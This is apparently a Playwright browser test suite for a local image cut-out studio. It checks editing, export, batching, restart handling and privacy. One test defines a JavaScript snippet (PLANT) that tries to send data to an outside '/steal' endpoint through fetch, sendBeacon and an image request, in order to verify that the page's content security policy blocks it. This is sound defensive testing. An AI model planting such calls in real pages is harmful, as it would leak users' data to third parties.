"""`nssbg studio` in a real browser: compared, corrected, downloaded; many; killed; private.

Needs playwright (`pip install --group browser`) and a Chromium of the system; skipped without.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import numpy as np
from PIL import Image
from studio_browser import (
    DONE,
    LONG,
    Studio,
    downloaded,
    drop,
    elsewhere,
    expect,
    on_stage,
    pixels_of,
    product,
    settled,
    wait_until,
)


def test_dropped_compared_painted_and_downloaded(page, tmp_path):
    drop(page, product(tmp_path / "disc.jpg", width=1200, height=900))
    settled(page, 1)
    assert page.inner_text(".file-name") == "disc.jpg"

    # Before and after: left of the handle the photograph, right of it the cut-out.
    page.click("button[aria-label='Compare before and after']")
    handle = page.locator(".split")
    expect(handle).to_be_visible()
    assert handle.get_attribute("aria-valuenow") == "50"
    left = on_stage(page, 0.1, 0.1)
    box = page.locator(".stage-canvas").bounding_box()
    at = (round(left[1] - box["y"]), round(left[0] - box["x"]))
    wait_until(page, lambda: abs(int(pixels_of(page)[at][0]) - 232) < 8, what="the photograph")
    grip = handle.bounding_box()
    page.mouse.move(grip["x"] + 18, grip["y"] + 100)
    page.mouse.down()
    page.mouse.move(box["x"] + 20, grip["y"] + 120, steps=4)
    page.mouse.up()
    assert int(handle.get_attribute("aria-valuenow")) < 5
    # The corner is checkerboard now: white or its grey.
    wait_until(page, lambda: int(pixels_of(page)[at][0]) in (220, 255), what="the checkerboard")
    page.keyboard.press("c")
    expect(handle).to_be_hidden()

    # A stroke across the disc takes it out there, first on the screen and then in the file.
    page.check("input[name=tool][value=drop]", force=True)
    start, end = on_stage(page, 0.5, 0.45), on_stage(page, 0.5, 0.55)
    page.mouse.move(*start)
    page.mouse.down()
    page.mouse.move(*end, steps=6)
    with page.expect_response(lambda answer: answer.url.endswith("/preview")) as previewed:
        page.mouse.up()
    assert previewed.value.status == 200
    expect(page.locator("text=1 stroke")).to_be_visible()
    settled(page, 1)
    made = downloaded(page, tmp_path / "disc.png")
    assert made.mode == "RGBA"
    assert made.size == (1200, 900)
    alpha = np.asarray(made)[..., 3]
    assert alpha[450, 600] == 0, "painted away"
    assert alpha[450, 750] == 255, "the rest of the disc"
    assert alpha[50, 50] == 0, "the backdrop"
    red = np.asarray(made)[450, 750, :3].astype(int)
    assert np.abs(red - [190, 40, 50]).max() < 12

    page.keyboard.press("Control+z")
    expect(page.locator("text=1 stroke")).to_have_count(0)
    settled(page, 1)
    alpha = np.asarray(downloaded(page, tmp_path / "undone.png"))[..., 3]
    assert alpha[450, 600] == 255
    page.keyboard.press("Control+Shift+z")
    expect(page.locator("text=1 stroke")).to_be_visible()


def test_only_the_visible_part_is_asked_for(page, tmp_path):
    drop(page, product(tmp_path / "large.jpg", width=3000, height=2000))
    settled(page, 1)
    page.asked.clear()
    page.locator(".surface").focus()
    page.keyboard.press("1")
    expect(page.locator(".zoom-value")).to_have_text("100%")

    def asked():
        from urllib.parse import parse_qs, urlsplit

        queries = [parse_qs(urlsplit(url).query) for url in page.asked if "/view?" in url]
        return [q for q in queries if q["layer"] == ["cutout"] and q.get("scale") == ["1"]]

    wait_until(page, lambda: asked(), what="the visible part at every pixel")
    for query in asked():
        share = float(query["width"][0]) * float(query["height"][0]) / (3000 * 2000)
        assert share < 0.6, "a part, not the whole"
    page.keyboard.press("0")
    expect(page.locator(".zoom-value")).not_to_have_text("100%")


def test_edge_framing_and_formats(page, tmp_path):
    drop(page, product(tmp_path / "cup.jpg", width=640, height=480))
    settled(page, 1)
    before = np.asarray(downloaded(page, tmp_path / "plain.png"))[..., 3] > 127
    choke = page.locator("label.slider:has-text('Choke') input")
    choke.focus()
    for _ in range(12):
        choke.press("ArrowRight")
    settled(page, 1)
    after = np.asarray(downloaded(page, tmp_path / "choked.png"))[..., 3] > 127
    assert after.sum() < before.sum(), "a positive choke shrinks"

    page.click("#tab-frame")
    page.select_option("label:has-text('Canvas') select", "1000x1000")
    page.select_option("label:has-text('Background') select", "color")
    settled(page, 1)
    page.click(".export-options summary")
    page.select_option("#format", "jpeg")
    made = downloaded(page, tmp_path / "framed.jpg")
    assert (made.format, made.mode, made.size) == ("JPEG", "RGB", (1000, 1000))
    assert np.asarray(made)[5, 5].min() >= 250, "white"
    # A picture as the background: shown while it is being set, and in the file.
    backdrop = tmp_path / "backdrop.png"
    Image.new("RGB", (60, 60), (20, 60, 220)).save(backdrop)
    page.on("filechooser", lambda chooser: chooser.set_files(backdrop))
    page.select_option("label:has-text('Background') select", "picture")
    corner = on_stage(page, 0.05, 0.05)
    box = page.locator(".stage-canvas").bounding_box()
    at = (round(corner[1] - box["y"]), round(corner[0] - box["x"]))
    wait_until(page, lambda: int(pixels_of(page)[at][2]) > 200 > int(pixels_of(page)[at][0]))
    settled(page, 1)
    blue = np.asarray(downloaded(page, tmp_path / "blue.jpg"))[5, 5].astype(int)
    assert np.abs(blue - [20, 60, 220]).max() < 12
    page.check("label.toggle:has-text('Mask alone') input")
    page.select_option("#format", "png")
    mask = downloaded(page, tmp_path / "mask.png")
    assert mask.mode == "L"
    assert set(np.unique(np.asarray(mask))) >= {0, 255}


def test_settings_for_all_leave_corrections_to_each(page, tmp_path):
    drop(page, product(tmp_path / "a.jpg"), product(tmp_path / "b.jpg"))
    settled(page, 2)
    told = f"{page.url}api/pictures"
    page.click("li:has-text('b.jpg') .pick")
    page.check("input[name=tool][value=keepPoint]", force=True)
    page.mouse.click(*on_stage(page, 0.5, 0.5))
    expect(page.get_by_text("1 point", exact=True)).to_be_visible()
    page.click("li:has-text('a.jpg') .pick")
    page.check("input[name=effort][value=fast]", force=True)
    page.click("text=Use these settings for all pictures")
    settled(page, 2)
    wait_until(
        page, lambda: [p["edit"]["effort"] for p in page.request.get(told).json()] == ["fast"] * 2
    )
    edits = [picture["edit"] for picture in page.request.get(told).json()]
    assert [len(edit["corrections"]["keep"]) for edit in edits] == [0, 1]
    # And it can be undone, picture by picture.
    page.click("li:has-text('b.jpg') .pick")
    page.keyboard.press("Control+z")
    expect(page.locator("input[name=effort][value=balanced]")).to_be_checked()


def test_fifty_pictures_queued_and_taken_as_one_zip(page, tmp_path):
    paths = [product(tmp_path / f"p{n:02}.jpg", width=96, height=72) for n in range(50)]
    drop(page, *paths)
    expect(page.locator(".pictures li")).to_have_count(50)
    expect(page.locator("progress.overall")).to_be_visible()
    settled(page, 50)
    assert page.inner_text(".count") == "50 pictures"
    expect(page.locator("progress.overall")).to_be_hidden()
    with page.expect_download(timeout=LONG) as waiting:
        page.click("#download-all")
    names = zipfile.ZipFile(io.BytesIO(waiting.value.path().read_bytes())).namelist()
    assert sorted(names) == sorted(f"p{n:02}-cutout.png" for n in range(50))
    # What was done is there when the page is loaded again.
    page.reload()
    expect(page.locator(DONE)).to_have_count(50, timeout=LONG)
    assert page.inner_text(".count") == "50 pictures"
    # And gone from the disk's session when a person says so.
    page.click(".list-foot >> text=Remove all")
    page.get_by_role("button", name="Remove", exact=True).click()
    expect(page.locator("#empty-heading")).to_be_visible()
    wait_until(page, lambda: page.request.get(f"{page.url}api/pictures").json() == [])


def test_a_broken_file_costs_only_itself(page, tmp_path):
    broken = tmp_path / "broken.jpg"
    broken.write_bytes(product(tmp_path / "whole.jpg").read_bytes()[:60])
    drop(page, broken, tmp_path / "whole.jpg")
    expect(page.locator("li[data-state=failed]")).to_have_count(1, timeout=LONG)
    settled(page, 1)
    page.click("li[data-state=failed] .pick")
    assert "broken.jpg" in page.inner_text(".stage-failed")
    assert page.locator(".notice.error").count() == 0, "said once is enough"
    assert page.is_disabled("#download")
    page.locator("li[data-state=failed]").hover()
    page.click("li[data-state=failed] button[aria-label='Remove broken.jpg']")
    expect(page.locator(".pictures li")).to_have_count(1)


def test_a_folder_is_chosen_with_what_it_holds(page, tmp_path):
    folder = tmp_path / "shoot"
    (folder / "cups").mkdir(parents=True)
    product(folder / "a.jpg")
    product(folder / "cups" / "a.jpg")
    (folder / "notes.txt").write_text("no picture")
    (folder / ".hidden.jpg").write_bytes(b"")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Choose a folder").click()
    chooser.value.set_files(folder)
    settled(page, 2)
    expect(page.locator(".notice")).to_contain_text("2 files are no picture")
    assert sorted(page.locator(".name").all_inner_texts()) == ["shoot/a.jpg", "shoot/cups/a.jpg"]
    with page.expect_download(timeout=LONG) as waiting:
        page.click("#download-all")
    names = zipfile.ZipFile(io.BytesIO(waiting.value.path().read_bytes())).namelist()
    assert sorted(names) == ["shoot/a-cutout.png", "shoot/cups/a-cutout.png"]


def test_a_batch_on_a_folder(page, tmp_path):
    folder = tmp_path / "many"
    folder.mkdir()
    for name in "abc":
        product(folder / f"{name}.jpg")
    page.click("#batch")
    page.click("dialog >> text=Start")
    expect(page.locator(".form-error")).to_contain_text("both folders")
    page.fill("#batch-folder", str(folder))
    page.locator("#batch-folder").press("Tab")
    assert page.input_value("#batch-output") == f"{folder}-cutouts"
    page.click("dialog >> text=Start")
    expect(page.locator(".batch-state")).to_contain_text("Done: 3 pictures.", timeout=LONG)
    made = {path.name for path in Path(f"{folder}-cutouts").glob("*.png")}
    assert made >= {"a.png", "b.png", "c.png"}
    page.fill("#batch-folder", str(tmp_path / "nowhere"))
    page.click("dialog >> text=Start")
    expect(page.locator(".form-error")).to_contain_text("nowhere")


def test_the_server_killed_and_restarted_under_the_page(browser, tmp_path):
    studio = Studio(tmp_path / "session")
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    page = context.new_page()
    try:
        page.goto(studio.address)
        page.wait_for_selector("html[data-ready]")
        drop(page, product(tmp_path / "a.jpg"))
        settled(page, 1)
        port = studio.port
        studio.kill()
        banner = page.locator(".banner[role=alert]")
        expect(banner).to_be_visible(timeout=LONG)
        assert "does not answer" in banner.inner_text()
        assert page.is_disabled("#download")
        # What is done meanwhile is kept: another picture, and a change of the first.
        drop(page, product(tmp_path / "b.jpg"))
        expect(page.locator("li:has-text('b.jpg') .state")).to_have_text("Waiting for the engine")
        page.click("li:has-text('a.jpg') .pick")
        choke = page.locator("label.slider:has-text('Choke') input")
        choke.focus()
        choke.press("End")
        studio.start(port)
        expect(banner).to_be_hidden(timeout=LONG)
        settled(page, 2)
        told = page.request.get(f"{studio.origin}/api/pictures").json()
        assert [picture["name"] for picture in told] == ["a.jpg", "b.jpg"]
        assert told[0]["edit"]["choke"] == 1
        assert downloaded(page, tmp_path / "a.png").size == (320, 240)
    finally:
        context.close()
        studio.stop()


PLANT = """async (place) => {
    const fetched = await fetch(place, {method: 'POST', body: 'pixels', mode: 'no-cors'})
        .then(() => 'sent', () => 'stopped');
    navigator.sendBeacon(place, 'pixels');
    const image = new Image();
    await new Promise((done) => {
        image.onload = image.onerror = done;
        image.src = `${place}.png`;
    });
    return fetched;
}"""


def test_nothing_leaves_the_origin_and_what_tries_is_stopped(browser, page, tmp_path):
    with elsewhere() as (place, reached):
        # Where no policy is, the same attempts arrive: this test can fail.
        bare = browser.new_page()
        assert bare.evaluate(PLANT, f"{place}/bare") == "sent"
        all_three = ["/steal/bare", "/steal/bare", "/steal/bare.png"]
        wait_until(bare, lambda: sorted(reached) == all_three, what="fetch, beacon and image")
        bare.close()

        drop(page, product(tmp_path / "a.jpg"))
        settled(page, 1)
        page.click("#tab-device")
        expect(page.locator(".zero strong")).to_have_text("0")
        assert page.evaluate(PLANT, f"{place}/page") == "stopped"
        expect(page.locator(".proof")).to_contain_text("to reach elsewhere were blocked")
        page.wait_for_timeout(500)
        assert sorted(reached) == all_three, "and nothing of the page's"
        expect(page.locator(".zero strong")).to_have_text("0")
        # A request that a policy stops is never sent; the browser tells of it all the same.
        page.asked[:] = [url for url in page.asked if not url.startswith(place)]
        page.click("summary:has-text('How that is enforced')")
        assert "connect-src 'self'" in page.inner_text(".policy")


def test_the_page_that_lost_its_key_says_so(browser, studio):
    context = browser.new_context()
    page = context.new_page()
    answer = page.goto(studio.origin + "/")
    assert answer.status == 401
    page.goto(studio.address)
    page.wait_for_selector("html[data-ready]")
    context.clear_cookies()
    drop(page, Path(__file__).parents[1] / "data" / "mug.jpg")
    page.reload(wait_until="commit")
    assert "key" in page.content()
    context.close()
